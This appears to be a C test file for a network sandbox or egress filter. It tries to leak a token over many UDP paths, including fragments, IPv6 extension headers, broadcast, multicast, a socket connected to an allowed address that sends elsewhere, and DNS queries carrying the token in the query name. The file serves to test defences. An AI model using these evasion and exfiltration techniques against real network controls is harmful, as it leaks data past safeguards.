// UDP, by every way to send a datagram.
#include "attack.h"

static void datagram4(const char *host, const char *port)
{
    struct sockaddr_in to = v4(host, port);
    int fd = udp4();
    send_token_to(fd, &to, sizeof to);
    sent();
}

static void datagram6(struct sockaddr_in6 to)
{
    int fd = udp6();
    send_token_to(fd, &to, sizeof to);
    sent();
}

ATTACK(udp) { datagram4("WIRE4", "PORT"); }
ATTACK(udp_v6) { datagram6(v6("WIRE6", "PORT")); }
ATTACK(udp_mapped) { datagram6(mapped("WIRE4", "PORT")); }
ATTACK(udp_loopback) { datagram4("LO4", "PORT"); }
ATTACK(udp_loopback_v6) { datagram6(v6("LO6", "PORT")); }
ATTACK(udp_quic) { datagram4("WIRE4", "QUIC"); }

ATTACK(udp_scoped)
{
    struct sockaddr_in6 to = v6("LINK6", "PORT");
    to.sin6_scope_id = (uint32_t)interface();
    datagram6(to);
}

ATTACK(udp_connected)
{
    struct sockaddr_in to = v4("WIRE4", "PORT");
    int fd = udp4();
    connect_to(fd, &to, sizeof to);
    send_token(fd);
    sent();
}

// An IPv6 socket that is given an IPv4 address.
ATTACK(udp_v6_socket_v4_address)
{
    struct sockaddr_in to = v4("WIRE4", "PORT");
    int fd = udp6();
    send_token_to(fd, &to, sizeof to);
    sent();
}

// A socket that is connected to what is allowed names another address with the datagram.
ATTACK(udp_connected_elsewhere)
{
    struct sockaddr_in allowed = v4("PASSED4", "PORT"), to = v4("WIRE4", "PORT");
    int fd = udp4();
    connect_to(fd, &allowed, sizeof allowed);
    send_token_to(fd, &to, sizeof to);
    sent();
}

ATTACK(udp_sendmmsg)
{
    struct sockaddr_in to = v4("WIRE4", "PORT");
    struct iovec data = {(void *)token(), strlen(token())};
    struct mmsghdr messages[2] = {0};
    for (int i = 0; i < 2; i++) {
        messages[i].msg_hdr.msg_name = &to;
        messages[i].msg_hdr.msg_namelen = sizeof to;
        messages[i].msg_hdr.msg_iov = &data;
        messages[i].msg_hdr.msg_iovlen = 1;
    }
    must(sendmmsg(udp4(), messages, 2, 0), "sendmmsg");
    sent();
}

// Two fragments, the token in the second, which has no ports.
ATTACK(udp_fragments)
{
    struct sockaddr_in to = v4("WIRE4", "PORT");
    char big[2000] = {0};
    int fd = udp4(), whole = IP_PMTUDISC_DONT;
    must(setsockopt(fd, IPPROTO_IP, IP_MTU_DISCOVER, &whole, sizeof whole), "setsockopt");
    memcpy(big + sizeof big - strlen(token()), token(), strlen(token()));
    must((int)sendto(fd, big, sizeof big, 0, (void *)&to, sizeof to), "sendto");
    sent();
}

// A chain of extension headers before the ports (RFC 8200): hop-by-hop options, and two of destination options.
ATTACK(udp_extension_headers)
{
    struct sockaddr_in6 to = v6("WIRE6", "PORT");
    static const uint8_t padding[8] = {0, 0, 1, 4};
    static const int headers[] = {IPV6_HOPOPTS, IPV6_RTHDRDSTOPTS, IPV6_DSTOPTS};
    char control[3 * CMSG_SPACE(sizeof padding)] = {0};
    struct iovec payload = {(void *)token(), strlen(token())};
    struct msghdr message = {.msg_name = &to,
                             .msg_namelen = sizeof to,
                             .msg_iov = &payload,
                             .msg_iovlen = 1,
                             .msg_control = control,
                             .msg_controllen = sizeof control};
    struct cmsghdr *header = CMSG_FIRSTHDR(&message);
    for (int i = 0; i < 3; i++, header = CMSG_NXTHDR(&message, header)) {
        header->cmsg_level = IPPROTO_IPV6;
        header->cmsg_type = headers[i];
        header->cmsg_len = CMSG_LEN(sizeof padding);
        memcpy(CMSG_DATA(header), padding, sizeof padding);
    }
    must((int)sendmsg(udp6(), &message, 0), "sendmsg");
    sent();
}

ATTACK(udp_broadcast)
{
    struct sockaddr_in to = v4("WIRE4", "PORT");
    int fd = udp4(), one = 1;
    to.sin_addr.s_addr = INADDR_BROADCAST;
    must(setsockopt(fd, SOL_SOCKET, SO_BROADCAST, &one, sizeof one), "setsockopt");
    must(setsockopt(fd, SOL_SOCKET, SO_BINDTODEVICE, setting("INTERFACE"), (socklen_t)strlen(setting("INTERFACE"))),
         "bindtodevice");
    send_token_to(fd, &to, sizeof to);
    sent();
}

ATTACK(udp_multicast)
{
    struct sockaddr_in to = v4("WIRE4", "PORT");
    struct ip_mreqn out = {.imr_ifindex = interface()};
    int fd = udp4();
    inet_pton(AF_INET, "239.255.13.37", &to.sin_addr);
    must(setsockopt(fd, IPPROTO_IP, IP_MULTICAST_IF, &out, sizeof out), "setsockopt");
    send_token_to(fd, &to, sizeof to);
    sent();
}

// A question for a name that carries the data (RFC 1035).
static size_t question(uint8_t *out)
{
    static const uint8_t header[12] = {0x13, 0x37, 1, 0, 0, 1};
    static const char domain[] = "\7example\0\0\1\0\1";
    size_t length = strlen(token());
    memcpy(out, header, sizeof header);
    out[12] = (uint8_t)length;
    memcpy(out + 13, token(), length);
    memcpy(out + 13 + length, domain, sizeof domain - 1);
    return 13 + length + sizeof domain - 1;
}

static void ask_by_udp(const char *host)
{
    struct sockaddr_in to = v4(host, "DNS");
    uint8_t message[256];
    size_t length = question(message);
    must((int)sendto(udp4(), message, length, 0, (void *)&to, sizeof to), "sendto");
    sent();
}

ATTACK(dns) { ask_by_udp("WIRE4"); }
ATTACK(dns_loopback) { ask_by_udp("LO4_OTHER"); }

ATTACK(dns_connected)
{
    struct sockaddr_in to = v4("WIRE4", "DNS");
    uint8_t message[256];
    size_t length = question(message);
    int fd = udp4();
    connect_to(fd, &to, sizeof to);
    must((int)send(fd, message, length, 0), "send");
    sent();
}

ATTACK(dns_tcp)
{
    struct sockaddr_in to = v4("WIRE4", "DNS");
    uint8_t message[258];
    size_t length = question(message + 2);
    message[0] = 0;
    message[1] = (uint8_t)length;
    int fd = tcp4();
    connect_to(fd, &to, sizeof to);
    must((int)send(fd, message, length + 2, MSG_NOSIGNAL), "send");
    sent();
}
